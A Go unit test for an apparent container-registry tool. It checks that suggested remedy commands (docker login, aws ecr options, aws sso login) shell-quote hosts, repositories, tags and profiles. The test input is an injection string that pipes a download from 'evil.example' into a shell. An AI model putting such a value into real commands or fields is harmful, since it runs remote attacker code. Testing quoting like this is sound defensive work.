package registry

import (
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ecr/types"
)

// Hosts, repositories, tags and profiles are words of the commands that remedies show.
func TestRemediesQuoteWhatOthersName(t *testing.T) {
	t.Parallel()
	const evil = "x;curl${IFS}evil.example|sh"
	const quoted = "'" + evil + "'"
	api := &ecrAPI{repository: evil}
	p := awsPrincipal{profile: evil}
	for name, c := range map[string]struct{ got, want string }{
		"login":      {party{host: evil}.filled(refusedRemedy, ""), "docker login " + quoted + " or"},
		"repository": {api.restoration(types.ImageIdentifier{ImageTag: aws.String(evil)}), "--repository-name " + quoted + " --image-id 'imageTag=" + evil + "' "},
		"profile":    {p.filled(awsCause{said: "x", cure: "aws sso login --profile $profile"}, ""), "--profile " + quoted},
	} {
		if !strings.Contains(c.got, c.want) {
			t.Errorf("%s: %s", name, c.got)
		}
	}
}
